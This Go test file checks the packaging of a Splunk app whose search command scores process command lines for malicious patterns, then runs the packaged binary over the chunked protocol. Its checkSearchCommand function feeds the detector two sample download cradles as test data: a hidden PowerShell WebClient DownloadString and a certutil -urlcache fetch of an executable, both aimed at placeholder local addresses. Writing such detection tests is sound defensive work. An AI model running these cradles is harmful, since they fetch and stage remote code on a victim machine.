package apptest

import (
	"archive/tar"
	"bufio"
	"bytes"
	"compress/gzip"
	"context"
	"debug/elf"
	"debug/macho"
	"debug/pe"
	"encoding/csv"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"os"
	"os/exec"
	"path"
	"path/filepath"
	"runtime"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

// binaries is where package.sh puts each build (see package.sh and
// bin/README.md for why).
var binaries = []struct{ path, goos, goarch string }{
	{"linux_x86_64/bin/scorecmdline", "linux", "amd64"},
	{"bin/scorecmdline", "linux", "arm64"},
	{"windows_x86_64/bin/scorecmdline.exe", "windows", "amd64"},
	{"windows_x86_64/bin/scorecmdline", "windows", "amd64"},
	{"darwin_x86_64/bin/scorecmdline", "darwin", "amd64"},
	{"darwin_arm64/bin/scorecmdline", "darwin", "arm64"},
}

// member is one file of the tarball.
type member struct {
	mode int64
	data []byte
}

// TestPackage runs package.sh and checks the tarball as AppInspect and
// splunkd would see it, then runs the packaged binary from the unpacked app.
func TestPackage(t *testing.T) {
	if testing.Short() {
		t.Skip("skipping: package.sh cross-builds five binaries (run without -short)")
	}
	if _, err := exec.LookPath("bash"); err != nil {
		t.Skip("skipping: no bash")
	}
	root := repoRoot(t)
	version := appVersion(t)
	out := t.TempDir()

	ctx, cancel := context.WithTimeout(context.Background(), 8*time.Minute)
	defer cancel()
	sigmaDir, err := filepath.Abs(filepath.Join("testdata", "apptest_sigma"))
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.CommandContext(ctx, "bash", filepath.Join(root, "package.sh"), "--sigma", sigmaDir, out)
	killGroup(cmd)
	cmd.Dir = t.TempDir() // package.sh must not depend on the caller's folder
	var stdout, stderr bytes.Buffer
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	if err := cmd.Run(); err != nil {
		t.Fatalf("package.sh: %v\n%s", err, stderr.String())
	}
	tarball := filepath.Join(out, appID+"-"+version+".tgz")
	if got := strings.TrimSpace(stdout.String()); got != tarball {
		t.Errorf("package.sh printed %q, want %q", got, tarball)
	}

	members := readTarball(t, tarball)
	checkLayout(t, root, members)
	checkBinaries(t, members)

	// The app's own files travel unchanged.
	for name, m := range members {
		rel, _ := strings.CutPrefix(name, appID+"/")
		var src string
		switch {
		case strings.HasPrefix(rel, "lookups/apptest_sigma/"):
			src = filepath.Join(sigmaDir, strings.TrimPrefix(rel, "lookups/apptest_sigma/"))
		case strings.HasPrefix(rel, "default/"), strings.HasPrefix(rel, "lookups/"):
			src = filepath.Join(root, rel)
		case !isBinary(rel):
			src = filepath.Join(root, "app", rel)
		default:
			continue
		}
		want, err := os.ReadFile(src)
		if err != nil {
			t.Errorf("%s: %v", name, err)
		} else if !bytes.Equal(m.data, want) {
			t.Errorf("%s differs from %s", name, src)
		}
	}

	app := unpack(t, tarball)
	exe, ok := hostBinary(app)
	if !ok {
		t.Skipf("skipping the run: no packaged binary for %s/%s", runtime.GOOS, runtime.GOARCH)
	}
	checkVersion(t, exe, version)
	checkSearchCommand(t, exe, nil)

	// A rule pack an admin drops into the app's lookups folder is used: the
	// binary finds <app>/lookups from its own place in the app (this pack is
	// not among the defaults built into the binary).
	pack, err := os.ReadFile(filepath.Join(app, "lookups", "sentinel_cmd.rules.toml"))
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(app, "lookups", "apptest_copy.rules.toml"), pack, 0o644); err != nil {
		t.Fatal(err)
	}
	checkSearchCommand(t, exe, []string{"rules=apptest_copy"})
	// The bundled Sigma pack is a rules= choice of the installed app.
	checkSearchCommand(t, exe, []string{"rules=apptest_sigma"})
}

func isBinary(rel string) bool {
	return slices.ContainsFunc(binaries, func(b struct{ path, goos, goarch string }) bool { return b.path == rel })
}

// readTarball reads every member and checks the AppInspect packaging rules:
// one top-level folder named for the app, no "./" or dot-files, only plain
// files and folders, owner rwx on folders and rw on files.
func readTarball(t *testing.T, tarball string) map[string]member {
	t.Helper()
	f, err := os.Open(tarball)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	st, _ := f.Stat()
	if st.Mode().Perm()&0o400 == 0 {
		t.Errorf("tarball is not readable by its owner: %v", st.Mode())
	}
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatalf("not gzip: %v", err)
	}
	tr := tar.NewReader(zr)
	members := map[string]member{}
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		name := h.Name
		if strings.HasPrefix(name, "./") || strings.HasPrefix(name, "/") {
			t.Errorf("%s: member names must be relative without ./", name)
		}
		if top, _, _ := strings.Cut(name, "/"); top != appID {
			t.Errorf("%s: outside the single top-level folder %s", name, appID)
		}
		for _, part := range strings.Split(strings.TrimSuffix(name, "/"), "/") {
			if strings.HasPrefix(part, ".") || part == "__MACOSX" {
				t.Errorf("%s: AppInspect rejects dot-files and __MACOSX", name)
			}
		}
		switch h.Typeflag {
		case tar.TypeDir:
			if h.Mode&0o700 != 0o700 {
				t.Errorf("%s: folder mode %o lacks owner rwx", name, h.Mode)
			}
		case tar.TypeReg:
			if h.Mode&0o600 != 0o600 {
				t.Errorf("%s: file mode %o lacks owner rw", name, h.Mode)
			}
			data, err := io.ReadAll(tr)
			if err != nil {
				t.Fatal(err)
			}
			if _, dup := members[name]; dup {
				t.Errorf("%s twice", name)
			}
			members[name] = member{h.Mode, data}
		default:
			t.Errorf("%s: type %c; only files and folders belong in the app", name, h.Typeflag)
		}
	}
	return members
}

// checkLayout compares the file list with what the repository says ships:
// app/ at the root, default/*.conf, lookup data (not lookups/embed.go), and
// the binaries, executable; everything else 0644.
func checkLayout(t *testing.T, root string, members map[string]member) {
	t.Helper()
	want := map[string]bool{}
	add := func(dir, pattern, prefix string) {
		m, _ := filepath.Glob(filepath.Join(root, dir, pattern))
		for _, p := range m {
			want[appID+"/"+prefix+filepath.Base(p)] = true
		}
	}
	add("default", "*.conf", "default/")
	add("lookups", "*.toml", "lookups/")
	add("lookups", "*.csv", "lookups/")
	add("lookups", "*.model.bin", "lookups/")
	want[appID+"/lookups/apptest_sigma/proc/certutil.yml"] = true // package.sh --sigma
	err := filepath.WalkDir(filepath.Join(root, "app"), func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() {
			rel, _ := filepath.Rel(filepath.Join(root, "app"), p)
			want[appID+"/"+filepath.ToSlash(rel)] = true
		}
		return err
	})
	if err != nil {
		t.Fatal(err)
	}
	for _, b := range binaries {
		want[appID+"/"+b.path] = true
	}
	for name := range want {
		if _, ok := members[name]; !ok {
			t.Errorf("tarball lacks %s", name)
		}
	}
	for name, m := range members {
		if !want[name] {
			t.Errorf("tarball has unexpected %s", name)
		}
		wantMode := int64(0o644)
		if isBinary(strings.TrimPrefix(name, appID+"/")) {
			wantMode = 0o755
		}
		if m.mode&0o777 != wantMode {
			t.Errorf("%s: mode %o, want %o", name, m.mode&0o777, wantMode)
		}
	}
	if _, ok := members[appID+"/lookups/embed.go"]; ok {
		t.Error("lookups/embed.go is Go code, not app content")
	}
}

// checkBinaries reads each binary's header: the right format and CPU, and a
// static ELF (no program interpreter) on Linux.
func checkBinaries(t *testing.T, members map[string]member) {
	t.Helper()
	for _, b := range binaries {
		m, ok := members[appID+"/"+b.path]
		if !ok {
			continue // checkLayout reports it
		}
		r := bytes.NewReader(m.data)
		var err error
		switch b.goos {
		case "linux":
			var f *elf.File
			if f, err = elf.NewFile(r); err == nil {
				want := map[string]elf.Machine{"amd64": elf.EM_X86_64, "arm64": elf.EM_AARCH64}[b.goarch]
				if f.Machine != want {
					err = fmt.Errorf("machine %v, want %v", f.Machine, want)
				}
				for _, p := range f.Progs {
					if p.Type == elf.PT_INTERP {
						err = errors.New("dynamically linked (has PT_INTERP); want CGO_ENABLED=0")
					}
				}
			}
		case "windows":
			var f *pe.File
			if f, err = pe.NewFile(r); err == nil && f.Machine != pe.IMAGE_FILE_MACHINE_AMD64 {
				err = fmt.Errorf("machine %#x, want AMD64", f.Machine)
			}
		case "darwin":
			var f *macho.File
			if f, err = macho.NewFile(r); err == nil {
				want := map[string]macho.Cpu{"amd64": macho.CpuAmd64, "arm64": macho.CpuArm64}[b.goarch]
				if f.Cpu != want || f.Type != macho.TypeExec {
					err = fmt.Errorf("cpu %v type %v, want %v executable", f.Cpu, f.Type, want)
				}
			}
		}
		if err != nil {
			t.Errorf("%s (%s/%s): %v", b.path, b.goos, b.goarch, err)
		}
	}
	exe, alias := members[appID+"/windows_x86_64/bin/scorecmdline.exe"], members[appID+"/windows_x86_64/bin/scorecmdline"]
	if !bytes.Equal(exe.data, alias.data) {
		t.Error("the two Windows binaries differ")
	}
}

// unpack extracts the tarball into a temporary folder, as splunk install
// app would into etc/apps, and returns the app's folder.
func unpack(t *testing.T, tarball string) string {
	t.Helper()
	dir := t.TempDir()
	f, err := os.Open(tarball)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	zr, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	tr := tar.NewReader(zr)
	for {
		h, err := tr.Next()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		target := filepath.Join(dir, filepath.FromSlash(path.Clean(h.Name)))
		switch h.Typeflag {
		case tar.TypeDir:
			err = os.MkdirAll(target, 0o755)
		case tar.TypeReg:
			if err = os.MkdirAll(filepath.Dir(target), 0o755); err == nil {
				var data []byte
				if data, err = io.ReadAll(tr); err == nil {
					err = os.WriteFile(target, data, fs.FileMode(h.Mode)&0o777)
				}
			}
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	return filepath.Join(dir, appID)
}

// hostBinary is the packaged binary splunkd would start on this machine.
func hostBinary(app string) (string, bool) {
	for _, b := range binaries {
		if b.goos == runtime.GOOS && b.goarch == runtime.GOARCH {
			return filepath.Join(app, filepath.FromSlash(b.path)), true
		}
	}
	return "", false
}

func checkVersion(t *testing.T, exe, version string) {
	t.Helper()
	out, err := exec.Command(exe, "version").Output()
	if err != nil {
		t.Fatalf("%s version: %v", exe, err)
	}
	if got, want := string(out), "scorecmdline "+version+"\n"; got != want {
		t.Errorf("%s version printed %q, want %q (app.conf)", exe, got, want)
	}
}

// writeChunk frames one chunked-protocol message.
func writeChunk(w *bytes.Buffer, meta any, body string) {
	m, _ := json.Marshal(meta)
	fmt.Fprintf(w, "chunked 1.0,%d,%d\n%s%s", len(m), len(body), m, body)
}

// readChunk reads one reply chunk.
func readChunk(r *bufio.Reader) (map[string]any, string, error) {
	header, err := r.ReadString('\n')
	if err != nil {
		return nil, "", fmt.Errorf("reading a chunk header: %w", err)
	}
	var mlen, blen int
	if _, err := fmt.Sscanf(header, "chunked 1.0,%d,%d\n", &mlen, &blen); err != nil {
		return nil, "", fmt.Errorf("bad chunk header %q: %w", header, err)
	}
	buf := make([]byte, mlen+blen)
	if _, err := io.ReadFull(r, buf); err != nil {
		return nil, "", err
	}
	meta := map[string]any{}
	if mlen > 0 {
		if err := json.Unmarshal(buf[:mlen], &meta); err != nil {
			return nil, "", fmt.Errorf("reply metadata %q: %w", buf[:mlen], err)
		}
	}
	return meta, string(buf[mlen:]), nil
}

// checkSearchCommand starts the packaged binary the way splunkd does (no
// arguments, the app folder around it), sends a getinfo with the search
// command's args and one execute chunk, and checks both replies: a streaming
// command whose rows come back in order with their fields and a score, the
// cmd.exe download cradle matched by the rule pack.
func checkSearchCommand(t *testing.T, exe string, args []string) {
	t.Helper()
	cmdlines := []string{
		`powershell.exe -nop -w hidden -c "$wc = New-Object System.Net.WebClient; $s = $wc.DownloadString('http://10.0.0.1/a'); function f { try { [System.Threading.Mutex]::new() } catch {} }"`,
		`cmd.exe /c certutil -urlcache -split -f http://127.0.0.1:8080/x.exe x.exe`,
		``,
	}
	var body bytes.Buffer
	w := csv.NewWriter(&body)
	w.Write([]string{"process", "parent_process_name", "dest"})
	for i, c := range cmdlines {
		w.Write([]string{c, "explorer.exe", "host" + strconv.Itoa(i)})
	}
	w.Flush()

	var in bytes.Buffer
	writeChunk(&in, map[string]any{
		"action": "getinfo", "preview": false, "streaming_command_will_restart": false,
		"searchinfo": map[string]any{
			"args": append([]string{}, args...), "raw_args": append([]string{}, args...), "dispatch_dir": t.TempDir(),
			"sid": "1700000000.1", "app": appID, "owner": "admin", "username": "admin",
			"session_key": "x", "splunkd_uri": "https://127.0.0.1:8089", "splunk_version": "9.2.1",
			"search": "%7C%20scorecmdline", "command": "scorecmdline", "maxresultrows": 50000,
			"earliest_time": "0", "latest_time": "0",
		},
	}, "")
	writeChunk(&in, map[string]any{"action": "execute", "finished": true}, body.String())

	ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
	defer cancel()
	cmd := exec.CommandContext(ctx, exe)
	cmd.Dir = t.TempDir()
	cmd.Env = append(os.Environ(), "SCORECMDLINE_LOOKUPS=") // read the app's own lookups
	cmd.Stdin = &in
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.Output()
	if err != nil {
		t.Fatalf("%s: %v\nstderr: %s", exe, err, stderr.String())
	}
	r := bufio.NewReader(bytes.NewReader(out))
	info, _, err := readChunk(r)
	if err != nil {
		t.Fatal(err)
	}
	if info["type"] != "streaming" {
		t.Errorf("getinfo reply %v, want type streaming", info)
	}
	meta, reply, err := readChunk(r)
	if err != nil {
		t.Fatal(err)
	}
	if meta["finished"] != true {
		t.Errorf("execute reply metadata %v, want finished true", meta)
	}
	if rest, _ := io.ReadAll(r); len(rest) > 0 {
		t.Errorf("%d bytes after the last reply: %q", len(rest), rest)
	}
	rows, err := csv.NewReader(strings.NewReader(reply)).ReadAll()
	if err != nil || len(rows) != len(cmdlines)+1 {
		t.Fatalf("reply body has %d rows (%v), want a header and %d:\n%s", len(rows), err, len(cmdlines), reply)
	}
	col := func(name string) int {
		i := slices.Index(rows[0], name)
		if i < 0 {
			t.Fatalf("reply header %q lacks %s", rows[0], name)
		}
		return i
	}
	proc, dest, scoreCol, count := col("process"), col("dest"), col("score"), col("rule_count")
	for i, row := range rows[1:] {
		if row[proc] != cmdlines[i] || row[dest] != "host"+strconv.Itoa(i) {
			t.Errorf("row %d came back as %q", i, row)
		}
	}
	if s, err := strconv.ParseFloat(rows[1][scoreCol], 64); err != nil || s <= 0.5 {
		t.Errorf("PowerShell cradle scored %q (%v), want above 0.5", rows[1][scoreCol], err)
	}
	if n, err := strconv.Atoi(rows[2][count]); err != nil || n < 1 {
		t.Errorf("certutil download cradle has rule_count %q, want a sentinel_cmd hit", rows[2][count])
	}
	if rows[3][scoreCol] != "" {
		t.Errorf("empty command line scored %q, want an empty field", rows[3][scoreCol])
	}
}
